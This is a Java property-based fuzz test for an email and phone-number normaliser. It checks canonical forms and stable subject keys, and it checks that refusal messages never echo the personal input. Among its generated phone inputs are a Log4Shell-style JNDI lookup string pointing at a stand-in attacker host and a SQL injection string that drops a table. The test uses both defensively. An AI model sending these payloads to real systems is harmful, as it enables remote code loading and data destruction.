package io.leadpipeline.reliability.corpus;

import static org.assertj.core.api.Assertions.assertThat;

import io.leadpipeline.identity.Emails;
import io.leadpipeline.identity.InvalidIdentifierException;
import io.leadpipeline.identity.PhoneNumbers;
import io.leadpipeline.identity.SubjectKeys;
import java.util.Locale;
import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.Assume;
import net.jqwik.api.ForAll;
import net.jqwik.api.Property;
import net.jqwik.api.Provide;

/**
 * Fuzzing the normaliser every key is computed from. Whatever a person or a bug types, it either
 * yields the one canonical form or refuses with InvalidIdentifierException whose message does not
 * repeat the input (it is personal data and would end up in a log); canonical forms are fixed
 * points, and every spelling of one address keys the same subject.
 */
class NormaliserFuzzTest {
  private static final SubjectKeys KEYS = new SubjectKeys("fuzzing-secret-0123456789");

  @Property(tries = 3000)
  void emailNormalisesOrRefusesWithoutEchoing(@ForAll("emailish") String raw) {
    try {
      String email = Emails.normalise(raw);
      assertThat(Emails.normalise(email)).as("a normalised email is a fixed point").isEqualTo(email);
      assertThat(email).isEqualTo(email.strip().toLowerCase(Locale.ROOT)).contains("@");
      assertThat(email.chars().noneMatch(c -> Character.isISOControl(c) || Character.isWhitespace(c))).isTrue();
    } catch (InvalidIdentifierException e) {
      assertNoEcho(e, raw);
    }
  }

  @Property(tries = 3000)
  void phoneNormalisesToE164OrRefusesWithoutEchoing(@ForAll("phoneish") String raw) {
    try {
      String e164 = PhoneNumbers.toE164(raw);
      assertThat(e164).matches("\\+[1-9][0-9]{6,14}");
      assertThat(PhoneNumbers.toE164(e164)).as("E.164 is a fixed point").isEqualTo(e164);
    } catch (InvalidIdentifierException e) {
      assertNoEcho(e, raw);
    }
  }

  @Property(tries = 1000)
  void everySpellingOfOneAddressKeysTheSameSubject(
      @ForAll("localParts") String local, @ForAll("whitespace") String before, @ForAll("whitespace") String after,
      @ForAll boolean upper) {
    String email = local + "@example.co.uk";
    String spelled = before + (upper ? email.toUpperCase(Locale.ROOT) : email) + after;
    assertThat(KEYS.ofEmail(spelled)).isEqualTo(KEYS.ofEmail(email));
  }

  @Property(tries = 1000)
  void everySpellingOfOneNumberKeysTheSamePhone(@ForAll("ukSubscriber") int n, @ForAll("phoneStyles") int style) {
    String digits = String.format("%03d", n);
    String national = "020 7946 0" + digits;
    String spelled = switch (style) {
      case 0 -> "+44 20 7946 0" + digits;
      case 1 -> "02079460" + digits;
      case 2 -> "(020) 7946-0" + digits;
      case 3 -> "0044 20 7946 0" + digits;
      default -> " +44 (0)20 7946 0" + digits + " ";
    };
    assertThat(KEYS.ofPhone(spelled)).isEqualTo(KEYS.ofPhone(national));
  }

  @Property(tries = 500)
  void subjectKeysNeverContainTheIdentifier(@ForAll("localParts") String local) {
    String email = local + "@example.com";
    String key = KEYS.ofEmail(email);
    assertThat(key).matches("[0-9a-f]{64}").doesNotContain(local.toLowerCase(Locale.ROOT));
  }

  private static void assertNoEcho(InvalidIdentifierException e, String raw) {
    String stripped = raw.strip();
    Assume.that(stripped.length() >= 4);
    assertThat(e.getMessage()).as("refusal message").doesNotContain(stripped);
  }

  @Provide
  Arbitrary<String> emailish() {
    Arbitrary<String> parts = Arbitraries.strings().withChars("aZ09.+_-@ \t\r\n<>\"'\u0000\u00e9\u202e;:,()[]\\").ofMaxLength(40);
    Arbitrary<String> plausible = Arbitraries.strings().alpha().ofMinLength(1).ofMaxLength(12)
        .map(s -> s + "@" + s.toLowerCase(Locale.ROOT) + ".example");
    return Arbitraries.oneOf(parts, plausible, Arbitraries.strings().ofMaxLength(300), Arbitraries.just("a@b"));
  }

  @Provide
  Arbitrary<String> phoneish() {
    Arbitrary<String> digits = Arbitraries.strings().withChars("0123456789 +-()x#*").ofMaxLength(30);
    Arbitrary<String> uk = Arbitraries.integers().between(0, 999).map(n -> "0161 496 0" + String.format("%03d", n));
    return Arbitraries.oneOf(digits, uk, Arbitraries.strings().ofMaxLength(100),
        Arbitraries.just("${jndi:ldap://attacker.example/a}"), Arbitraries.just("'; DROP TABLE tps;--"));
  }

  @Provide
  Arbitrary<String> localParts() {
    return Arbitraries.strings().withCharRange('a', 'z').withChars("0123456789.-_").ofMinLength(4).ofMaxLength(30)
        .filter(s -> Character.isLetter(s.charAt(0)));
  }

  @Provide
  Arbitrary<String> whitespace() {
    return Arbitraries.strings().withChars(" \t\n").ofMaxLength(3);
  }

  @Provide
  Arbitrary<Integer> ukSubscriber() {
    return Arbitraries.integers().between(0, 999);
  }

  @Provide
  Arbitrary<Integer> phoneStyles() {
    return Arbitraries.integers().between(0, 4);
  }

}
